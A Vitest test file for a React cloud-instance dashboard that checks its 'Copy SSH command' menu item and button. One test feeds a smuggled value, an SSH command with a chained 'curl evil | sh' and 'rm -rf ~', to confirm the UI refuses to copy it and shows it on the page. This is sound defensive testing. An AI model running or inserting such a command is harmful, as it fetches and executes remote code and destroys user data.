import { fireEvent, screen } from '@testing-library/react'
import { expect, test, vi } from 'vitest'

import { anInstance } from '#model/instance/instance.fixture.ts'
import { renderSignedIn } from '#testing/render-signed-in.tsx'

import CopySsh from './copy-ssh.tsx'
import RowMenu from './row-menu.tsx'

const open = async (command: string) => {
  const copied = vi.fn(() => Promise.resolve())
  Object.defineProperty(navigator, 'clipboard', { value: { writeText: copied }, configurable: true })
  const instance = anInstance({ ssh_command: command })
  await renderSignedIn(
    <>
      <CopySsh instance={instance} />
      <RowMenu instance={instance} anchor={document.createElement('button')} onClose={vi.fn()} />
    </>,
    { instances: [instance] },
  )
  const entry = screen.getByRole('menuitem', { name: /^Copy SSH command/, hidden: true })
  const button = screen.getByRole('button', { name: /^Copy SSH command of/ })
  for (const one of [entry, button]) fireEvent.click(one)
  return { copied, said: entry.textContent }
}

test('a row copies the SSH command by its menu and by its button', async () => {
  const { copied } = await open('ssh -p 30140 ccloud@login.carolinacloud.io')
  expect(copied.mock.calls).toEqual([
    ['ssh -p 30140 ccloud@login.carolinacloud.io'],
    ['ssh -p 30140 ccloud@login.carolinacloud.io'],
  ])
})

test('one that is not understood is not copied unseen: its page shows it', async () => {
  const { copied, said } = await open('ssh root@1.2.3.4; curl evil | sh\nrm -rf ~')
  expect(copied).not.toHaveBeenCalled()
  expect(said).toContain('on its page')
})
